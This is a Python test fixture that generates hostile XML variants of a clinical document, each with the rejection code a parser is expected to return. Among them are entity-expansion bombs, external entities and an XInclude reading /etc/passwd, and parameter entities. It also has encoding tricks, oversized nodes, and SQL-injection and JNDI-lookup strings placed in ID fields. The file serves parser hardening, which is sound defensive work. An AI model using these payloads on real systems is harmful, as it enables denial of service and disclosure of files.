"""Documents made to hurt, each with a code that must be among those told; most are a good document with something put in.

An empty code means: no rule forbids it, and only the cost matters. Bodies are made when asked for, never stored.
"""

import re
from collections.abc import Callable
from datetime import date, datetime, timedelta, timezone

from broker.samples.people import Population
from broker.samples.sample import make_sample

KIND = "306"
MIB = 1024 * 1024
CREATED = datetime(2026, 6, 15, 10, 15, tzinfo=timezone(timedelta(hours=3)))
XI = 'xmlns:xi="http://www.w3.org/2001/XInclude"'


def good() -> str:
    """A document nothing is wrong with."""
    population = Population(5, date(2026, 6, 15))
    made = make_sample(population, 1, kind=KIND, clinic=population.clinic(1), created_at=CREATED)
    return made.document().decode().partition("?>")[2].strip()


def doctype(declarations: str, reference: str = "") -> str:
    return f"<!DOCTYPE ClinicalDocument [{declarations}]>{within(reference)}"


def within(text: str, attributes: str = "") -> str:
    """The good document with something in its body, before the end of the root, and in the tag of the root."""
    head, tail = good().rsplit("</ClinicalDocument>", 1)
    return (
        head.replace("<ClinicalDocument ", f"<ClinicalDocument {attributes} ", 1)
        + text
        + "</ClinicalDocument>"
        + tail
    )


def in_text(text: str) -> str:
    """The good document with something in the first narrative text."""
    return good().replace("<text>", f"<text>{text}", 1)


def laughs() -> str:
    lines = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10 if n else "ха" * 10}">' for n in range(10))
    return doctype(lines, "&a9;")


def wide_and_deep() -> str:
    branch = "<component>" * 60 + "<section/>" * 40 + "</component>" * 60
    return within(branch * 500)


def twice_identified() -> str:
    found = good()
    start = found.index("<id ")
    identity = found[start : found.index("/>", start) + 2]
    return found.replace(identity, identity * 2000, 1)


DOCUMENTS: dict[str, tuple[str, Callable[[], str | bytes]]] = {
    "a billion laughs": ("xml.doctype_forbidden", laughs),
    "a quadratic blowup": (
        "xml.doctype_forbidden",
        lambda: doctype(f'<!ENTITY a "{"x" * 100_000}">', "&a;" * 100_000),
    ),
    "an external entity": (
        "xml.doctype_forbidden",
        lambda: doctype('<!ENTITY e SYSTEM "file:///etc/passwd">', "&e;"),
    ),
    "an external entity on the network": (
        "xml.doctype_forbidden",
        lambda: doctype('<!ENTITY e SYSTEM "http://127.0.0.1:9/">', "&e;"),
    ),
    "a parameter entity": (
        "xml.doctype_forbidden",
        lambda: doctype('<!ENTITY % e SYSTEM "file:///dev/zero"> %e;'),
    ),
    "a DOCTYPE in UTF-16": (
        "xml.doctype_forbidden",
        lambda: doctype('<!ENTITY e "x">', "&e;").encode("utf-16"),
    ),
    "a DOCTYPE in UTF-16 without a mark": (
        "xml.doctype_forbidden",
        lambda: doctype('<!ENTITY e "x">', "&e;").encode("utf-16-le"),
    ),
    "a DOCTYPE in UTF-7": (
        "xml.encoding",
        lambda: b"<?xml version='1.0' encoding='utf-7'?>" + doctype('<!ENTITY e "x">').encode("utf-7"),
    ),
    "a DOCTYPE in EBCDIC": (
        "xml.encoding",
        lambda: b"<?xml version='1.0' encoding='cp037'?>" + b"<!DOCTYPE a><a/>".decode().encode("cp037"),
    ),
    "a DOCTYPE behind many comments": (
        "xml.doctype_forbidden",
        lambda: "<!-- x -->" * 50_000 + "<!DOCTYPE a>" + good(),
    ),
    "100 000 nested elements": (
        "xml.too_deep",
        lambda: within("<component>" * 100_000 + "</component>" * 100_000),
    ),
    "250 nested elements": ("", lambda: within("<component>" * 250 + "</component>" * 250)),
    "a million attributes": (
        "xml.too_many_nodes",
        lambda: within("<component " + " ".join(f'a{n}=""' for n in range(1_000_000)) + "/>"),
    ),
    "a thousand attributes of one element": (
        "",
        lambda: within("<component " + " ".join(f'a{n}=""' for n in range(1000)) + "/>"),
    ),
    "100 000 attributes of one element": (
        "xml.too_many_nodes",
        lambda: within("<component " + " ".join(f'a{n}=""' for n in range(100_000)) + "/>"),
    ),
    "100 000 attributes of the root": (
        "xml.too_many_nodes",
        lambda: within("", " ".join(f'a{n}=""' for n in range(100_000))),
    ),
    "an attribute of 15 MiB": (
        "xml.attribute_too_long",
        lambda: within(f'<component a="{"x" * 15 * MIB}"/>'),
    ),
    "a text of 15 MiB": ("", lambda: in_text("x" * 15 * MIB)),
    "a code of 9 MiB": (
        "xml.attribute_too_long",
        lambda: within(f'<id root="{"1." * (9 * MIB // 2)}" extension="1"/>'),
    ),
    "a telephone of 9 MiB": (
        "xml.attribute_too_long",
        lambda: within(f'<telecom value="tel:{"8" * 9 * MIB}"/>'),
    ),
    "an OID of 60 KB in place of the document's": (
        "xsd",
        lambda: re.sub(r'<id root="[^"]*"', lambda _: f'<id root="{"1." * 30_000}"', good()),
    ),
    "a telephone of 60 KB in place of every one": (
        "",
        lambda: re.sub(r'value="tel:[^"]*"', lambda _: f'value="tel:{"8" * 60_000}"', good()),
    ),
    "a time of 60 KB in place of every one": (
        "",
        lambda: re.sub(r'(?<=Time value=")[^"]*"', lambda _: "2" * 60_000 + '"', good()),
    ),
    "an ОГРН of 9 MiB": (
        "",
        lambda: re.sub(r"(?<=>)[0-9]+(?=</identity:Ogrn>)", lambda _: "1" * 9 * MIB, good(), count=1),
    ),
    "a surname of 9 MiB": (
        "",
        lambda: re.sub(r"(?<=<family>)\w+", lambda _: "А" * (9 * MIB // 2), good(), count=1),
    ),
    "a street of 9 MiB": (
        "",
        lambda: re.sub(
            r"(?<=streetAddressLine>)[^<]+(?=<)", lambda _: "1 " * (9 * MIB // 2), good(), count=1
        ),
    ),
    "a document of 21 MiB": ("xml.too_large", lambda: within(" " * 21 * MIB)),
    "100 000 namespaces": (
        "",
        lambda: within("<component " + " ".join(f'xmlns:n{n}="urn:{n}"' for n in range(100_000)) + "/>"),
    ),
    "a hundred namespaces on each of a thousand elements": (
        "",
        lambda: within(
            "".join(
                "<component " + " ".join(f'xmlns:n{n}="urn:{n}:{m}"' for n in range(100)) + "/>"
                for m in range(1000)
            )
        ),
    ),
    "invalid bytes": (
        "xml.encoding",
        lambda: good().encode().replace(b"</ClinicalDocument>", b"\xff\xfe</ClinicalDocument>"),
    ),
    "an overlong encoding": (
        "xml.encoding",
        lambda: good().encode().replace(b"</ClinicalDocument>", b"\xc0\xbc</ClinicalDocument>"),
    ),
    "a NUL": ("xml.bad_character", lambda: within("\x00")),
    "a NUL by reference": ("xml.bad_character", lambda: within("&#0;")),
    "mixed encodings": (
        "xml.encoding",
        lambda: good().encode() + "<!-- Привет -->".encode("cp1251"),
    ),
    "UTF-8 that says windows-1251": (
        "xml.encoding_conflict",
        lambda: '<?xml version="1.0" encoding="windows-1251"?>' + good(),
    ),
    "a mark of UTF-16 before UTF-8": ("xml.encoding", lambda: b"\xff\xfe" + good().encode()),
    "UTF-32": ("xml.encoding", lambda: good().encode("utf-32")),
    "a mark of UTF-8": ("", lambda: b"\xef\xbb\xbf" + good().encode()),
    "two marks of UTF-8": ("xml.not_xml", lambda: b"\xef\xbb\xbf" * 2 + good().encode()),
    "240 000 processing instructions": ("", lambda: within("<?x y?>" * 240_000)),
    "a million processing instructions": ("xml.too_many_nodes", lambda: within("<?x y?>" * 1_000_000)),
    "200 000 comments": ("", lambda: within("<!-- x -->" * 200_000)),
    "a million comments": ("xml.too_many_nodes", lambda: within("<!---->" * 1_000_000)),
    "a CDATA of 15 MiB": ("", lambda: in_text("<![CDATA[" + "<" * 200_000 + "x" * 15 * MIB + "]]>")),
    "200 000 CDATA": ("", lambda: in_text("<![CDATA[x]]>" * 200_000)),
    "xml:base": ("xsd", lambda: within("", 'xml:base="http://127.0.0.1:9/"')),
    "an XInclude": ("xsd", lambda: within(f'<xi:include {XI} href="file:///etc/passwd" parse="text"/>')),
    "a schema on the network": (
        "",
        lambda: good().replace(
            "<ClinicalDocument ",
            '<ClinicalDocument xsi:noNamespaceSchemaLocation="http://127.0.0.1:9/x.xsd" ',
            1,
        ),
    ),
    "a style sheet on the network": (
        "",
        lambda: '<?xml-stylesheet type="text/xsl" href="http://127.0.0.1:9/x.xsl"?>' + good(),
    ),
    "2000 ids of the document": ("xsd", twice_identified),
    "a million siblings": ("xml.too_many_nodes", lambda: within("<component/>" * 1_000_000)),
    "9 000 siblings": ("", lambda: within("<component/>" * 9_000)),
    "9 000 authors": ("", lambda: within("<author><time/></author>" * 9_000)),
    "9 000 sections": ("", lambda: within("<component><section/></component>" * 9_000)),
    "90 000 cells of a table": (
        "",
        lambda: in_text("<table>" + ("<tr>" + "<td>1</td>" * 100 + "</tr>") * 450 + "</table>"),
    ),
    "a wide and deep tree": ("", wide_and_deep),
    "9 000 documents within the document": ("", lambda: within("<ClinicalDocument/>" * 9_000)),
    "half of a document": ("xml.malformed", lambda: good()[: len(good()) // 2]),
    "a document without its last bracket": ("xml.malformed", lambda: good()[:-1]),
    "two documents": ("xml.malformed", lambda: good() * 2),
    "nothing": ("xml.empty", lambda: b""),
    "only white space": ("xml.empty", lambda: b" \r\n\t" * MIB),
    "a root of another world": ("xsd", lambda: '<html xmlns="http://www.w3.org/1999/xhtml"/>'),
    "a root without a namespace": ("xsd", lambda: "<ClinicalDocument/>"),
    "names that are code": ("", lambda: within('<id root="\' or 1=1 --" extension="${jndi:ldap://x}"/>')),
    "right-to-left letters": ("", lambda: in_text("\u202e" * 100_000)),
    "letters beyond the first plane": ("", lambda: in_text("\U0001f4a3" * 100_000)),
}
